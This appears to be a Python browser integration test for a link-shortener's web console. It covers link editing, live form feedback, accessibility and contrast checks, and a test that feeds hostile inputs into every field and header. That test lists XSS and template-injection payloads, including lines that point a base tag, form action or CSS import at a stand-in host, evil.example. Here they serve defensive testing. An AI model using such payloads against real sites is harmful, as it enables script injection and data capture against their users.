"""The console in a browser: hostile texts in every field and view, what can be read, and how it looks."""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest

from tests.integration.console_session import ConsoleSession
from tests.servers import browser
from tests.servers.browser import Browser
from tests.servers.hopgate import UNLIMITED, Gateway, eventually, hopgate, make_key

pytestmark = [
    pytest.mark.skipif(bool(browser.missing()), reason=f"{browser.missing()} not installed"),
    pytest.mark.timeout(600),
]
SCREENS = {"phone": (360, 740), "wide": (1280, 800)}
# Each calls `ran` if it runs.
HOSTILE = (
    "<script>ran('script')</script>",
    '"><img src=x onerror=ran(1)>',
    "'><svg onload=ran(2)>",
    "</textarea></title></style><script>ran(3)</script>",
    "javascript:ran(4)",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    '" autofocus onfocus="ran(5)" x="',
    "<a href='data:text/html,<script>ran(6)</script>'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/><form action=//evil.example>",
    "<iframe srcdoc='<script>parent.ran(7)</script>'></iframe>",
    "\u202egnp.exe &lt;b&gt; &#x3c;script&#x3e;",
)
_WATCH = """
window.ran = what => { window.name += ' ran:' + what; };
document.addEventListener('securitypolicyviolation', event => {
  window.name += ' refused:' + event.effectiveDirective + ':' + event.blockedURI;
});
"""
# What a reader that cannot see the page, or sees it badly, would miss.
_FINDINGS = """
const found = [];
if (!document.documentElement.lang) found.push('no language');
if (document.querySelectorAll('h1').length !== 1) found.push('not one h1');
let level = 0;
for (const one of document.querySelectorAll('h1, h2, h3')) {
  const now = +one.tagName[1];
  if (now > level + 1 && level) found.push(`h${now} below h${level}: ${one.textContent}`);
  level = now;
}
const ids = [...document.querySelectorAll('[id]')].map(one => one.id);
if (new Set(ids).size !== ids.length) found.push('an id occurs twice');
for (const one of document.querySelectorAll('input:not([type=hidden]), select')) {
  if (!one.labels.length) found.push(`no label: ${one.name}`);
  for (const id of (one.getAttribute('aria-describedby') || '').split(/\\s+/).filter(Boolean))
    if (!document.getElementById(id)) found.push(`describedby ${id}`);
}
for (const one of document.querySelectorAll('img')) if (!one.alt) found.push('no alt');
for (const one of document.querySelectorAll('a, button'))
  if (!one.hidden && !one.textContent.trim() && !one.querySelector('img'))
    found.push(`no name: ${one.outerHTML}`);
const channel = c => (c /= 255) <= .04045 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4;
const light = text => {
  const [r, g, b] = text.match(/[\\d.]+/g).map(Number);
  return .2126 * channel(r) + .7152 * channel(g) + .0722 * channel(b);
};
const behind = one => {
  for (let at = one; at; at = at.parentElement) {
    const colour = getComputedStyle(at).backgroundColor;
    if (!/, 0\\)$/.test(colour)) return colour;
  }
  return 'rgb(255, 255, 255)';
};
for (const one of document.querySelectorAll('body *')) {
  const own = [...one.childNodes].some(node => node.nodeType === 3 && node.textContent.trim());
  if (!own || !one.getClientRects().length) continue;
  const [a, b] = [light(getComputedStyle(one).color), light(behind(one))].sort((x, y) => y - x);
  const ratio = (a + .05) / (b + .05);
  if (ratio < 4.5) found.push(`contrast ${ratio.toFixed(2)} of ${one.tagName} ${one.className}`);
}
for (const one of document.querySelectorAll('button, select, .button, main input:not([type=hidden])')) {
  const box = one.getBoundingClientRect();
  if (box.height && box.height < 24) found.push(`small: ${one.outerHTML}`);
}
return found;
"""


@pytest.fixture(scope="module")
def window() -> Iterator[Browser]:
    with Browser() as window:
        yield window


@pytest.fixture(scope="module")
def gateway(tmp_path_factory) -> Iterator[Gateway]:
    directory = tmp_path_factory.mktemp("console-page")
    settings = {**UNLIMITED, "HOPGATE_DATA_DIR": str(directory / "data")}
    key = make_key(settings)
    with Gateway(settings, directory) as gateway:
        gateway.key, gateway.settings = key, settings  # type: ignore[attr-defined]
        yield gateway


def sign_in(window: Browser, gateway, key: str = "") -> None:
    """Sign in as a person does, by a form that the browser sends."""
    window.open(f"{gateway.url}/console/sign-in")
    window.run(f"document.querySelector('#key').value = {json.dumps(key or gateway.key)}")
    submit(window, "form")
    eventually(lambda: path_of(window) == "/console", 10, "the overview is shown")


def submit(window: Browser, form: str) -> None:
    window.run(f"document.querySelector({json.dumps(form)}).requestSubmit()")


def path_of(window: Browser) -> str:
    return str(window.run("return location.pathname"))


def test_link_is_made_changed_removed_and_brought_back(window, gateway):
    sign_in(window, gateway)
    window.open(f"{gateway.url}/console/links/new")
    window.run("""
        document.querySelector('#long_url').value = 'https://example.com/in-a-browser';
        document.querySelector('#slug').value = 'in-a-browser';
        document.querySelector('#expires_at').value = '2090-01-31T12:30:15';
    """)

    submit(window, "main form")

    eventually(lambda: "The link is there." in window.text(), 10, "the link is made")
    assert "2090-01-31 12:30" in window.text()
    assert window.run("return document.querySelector('.qr').naturalWidth") > 0
    assert window.run("return !document.querySelector('button[data-copies]').hidden") is True
    assert window.run("return document.styleSheets[0].cssRules.length") > 20
    window.run("document.querySelector('main a.button').click()")
    eventually(lambda: path_of(window) == "/console/link/edit", 10, "the form is shown")
    window.run("document.querySelector('#title').value = 'A new title'")
    submit(window, "main form")
    eventually(lambda: "The link is changed." in window.text(), 10, "the link is changed")
    submit(window, "form[action$=remove]")
    eventually(lambda: "The link is removed" in window.text(), 10, "the link is removed")
    submit(window, "form[action$=undo]")
    eventually(lambda: "The last change is undone." in window.text(), 10, "the link is back")
    assert "A new title" in window.text()


def test_form_tells_the_target_and_the_slug_while_it_is_typed(window, gateway):
    with ConsoleSession(gateway, gateway.key) as console:
        assert console.create(long_url="https://example.com/", slug="typed-taken").status_code == 303
    sign_in(window, gateway)
    window.open(f"{gateway.url}/console/links/new")

    def typed(slug: str) -> None:
        window.run(f"""
            document.querySelector('#long_url').value = 'https://example.com/';
            document.querySelector('#utm_source').value = '<b>mail';
            document.querySelector('#slug').value = {json.dumps(slug)};
            document.querySelector('#slug').dispatchEvent(new Event('input', {{bubbles: true}}));
        """)

    typed("typed-taken")

    said = "return document.querySelector('#slug-said').textContent"
    eventually(lambda: "is not free" in window.run(said), 10, "the slug is said to be taken")
    assert window.run("return document.querySelector('#slug').ariaInvalid") == "true"
    target = "https://example.com/?utm_source=%3Cb%3Email"
    assert window.run("return document.querySelector('[data-target]').innerText") == target
    typed("typed-free")
    eventually(lambda: window.run(said) == "is free", 10, "the slug is said to be free")
    assert window.run("return document.querySelector('#slug').ariaInvalid") is None


def test_hostile_texts_run_nothing(window, gateway):
    with ConsoleSession(gateway, gateway.key) as console, httpx.Client() as visitor:
        for number, text in enumerate(HOSTILE):
            slug = f"hostile-{number}"
            made = console.create(
                long_url=f"https://example.com/?q={text}",
                slug=slug,
                title=text,
                tags=text.replace(",", ""),
                utm_source=text,
            )
            if made.status_code != 303:
                # A rule of links refuses the text in some field: as a title alone it may stand.
                made = console.create(long_url="https://example.com/", slug=slug, title=text)
            if made.status_code != 303:
                assert made.status_code == 422
                made = console.create(long_url="https://example.com/", slug=slug)
            edit = {"slug": slug, "version": "1", "long_url": "https://example.com/", "enabled": "on"}
            assert console.send("/console/link/edit", **edit, title=f"{number}").status_code == 303
            sent = {"User-Agent": text, "Referer": f"https://evil.example/{text}", "Accept-Language": text}
            as_bytes = [(name.encode(), value.encode()) for name, value in sent.items()]
            visitor.get(f"{gateway.url}/{slug}", headers=as_bytes)
    named = hopgate(gateway.settings, "keys", "create", HOSTILE[1], "--scope", "admin")
    sign_in(window, gateway, named.stdout.strip())
    window.before_each_page(_WATCH)
    window.run("window.name = ''")
    opened = 0
    for number, text in enumerate(HOSTILE):
        typed = json.dumps(text)
        for path, field in (
            ("/console/links?sort=-created&", "search"),
            ("/console/links?", "tag"),
            ("/console/links?", "state"),
            ("/console/links?", "domain"),
            ("/console/links?", "cursor"),
            ("/console/links/new?", "long_url"),
            ("/console/link?", "slug"),
            (f"/console/link?slug=hostile-{number}&", "range"),
            (f"/console/link?slug=hostile-{number}&", "done"),
            (f"/console/link?slug=hostile-{number}&range=24h&", "x"),
            (f"/console/link/edit?slug=hostile-{number}&", "x"),
            ("/console/sign-in?", "link"),
            ("/console/sign-in?", "why"),
            ("/console?", "x"),
        ):
            window.open(f"{gateway.url}{path}{httpx.QueryParams({field: text})}")
            opened += 1
            assert window.run("return window.name") == "", (path, field, text)
            loaded = window.run("return performance.getEntriesByType('resource').map(one => one.name)")
            assert [one for one in loaded if not one.startswith(f"{gateway.url}/")] == []
            assert (
                window.run("return document.querySelectorAll('main script, base, iframe, style').length") == 0
            )
        # A form that is refused shows what was typed.
        window.open(f"{gateway.url}/console/links/new")
        window.run(f"""
            const fields = 'main input:not([type=hidden]):not([type=datetime-local])';
            for (const one of document.querySelectorAll(fields)) one.value = {typed};
        """)
        submit(window, "main form")
        eventually(lambda: "Nothing was stored" in window.text(), 10, "the form is refused")
        assert window.run("return window.name") == "", text
        assert window.run("return document.querySelector('#title').value") == text
    assert opened == len(HOSTILE) * 14


def test_pages_can_be_read_and_fit(window, gateway, tmp_path):
    """Some of its screenshots are in docs/images."""
    with ConsoleSession(gateway, gateway.key) as console:
        furnish(gateway, console)
    sign_in(window, gateway)
    views = {
        "overview": "/console",
        "links": "/console/links?tag=shop",
        "empty": "/console/links?search=nothing-like-it",
        "new": "/console/links/new",
        "link": "/console/link?slug=spring-sale&range=24h",
        "edit": "/console/link/edit?slug=spring-sale",
        "missing": "/console/link?slug=no-such",
        "wrong": "/console/links?state=x",
        "sign-in": "/console/sign-in",
    }
    for name, path in views.items():
        for screen, (width, height) in SCREENS.items():
            for dark in (False, True):
                window.look(width=width, height=height, dark=dark)
                window.open(f"{gateway.url}{path}")
                assert window.run(_FINDINGS) == [], name
                assert window.run("return document.documentElement.scrollWidth") <= width, (name, screen)
                shot = tmp_path / f"{name}-{screen}-{'dark' if dark else 'light'}.png"
                shot.write_bytes(window.screenshot())
    window.look(width=1280, height=800, dark=False)
    window.open(f"{gateway.url}/console/links/new")
    window.run("document.querySelector('#long_url').value = 'no url'")
    submit(window, "main form")
    eventually(lambda: "Nothing was stored" in window.text(), 10, "the form is refused")
    assert window.run(_FINDINGS) == []


def furnish(gateway: Gateway, console: ConsoleSession) -> None:
    """Make links as a shop has them, with visits."""
    rows = [
        (
            "spring-sale",
            "https://shop.example.com/sale/spring?utm_source=flyer",
            "Spring sale",
            "shop, flyer",
        ),
        ("returns", "https://shop.example.com/help/returns", "How to send it back", "shop, help"),
        ("jobs", "https://example.com/about/jobs", "We are hiring", "shop"),
    ]
    for slug, long_url, title, tags in rows:
        assert console.create(long_url=long_url, slug=slug, title=title, tags=tags).status_code == 303
    off = {"slug": "jobs", "version": "1", "long_url": rows[2][1], "title": rows[2][2], "tags": "shop"}
    assert console.send("/console/link/edit", **off).status_code == 303
    later = {"slug": "spring-sale", "version": "1", "long_url": rows[0][1], "tags": "shop, flyer"}
    sent = console.send(
        "/console/link/edit", **later, title="Spring sale 2026", utm_source="flyer", enabled="on"
    )
    assert sent.status_code == 303
    agents = (
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605 Version/18.5 Safari/604.1",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
    )
    for number in range(24):
        headers = {
            "User-Agent": agents[number % 7 % 3],
            "Accept-Language": "de" if number % 3 else "en",
            **({"Referer": "https://news.example/today"} if number % 2 else {}),
        }
        assert httpx.get(f"{gateway.url}/spring-sale", headers=headers).status_code == 302
    eventually(lambda: "Firefox" in console.page("spring-sale").text, 20, "the visits are described")
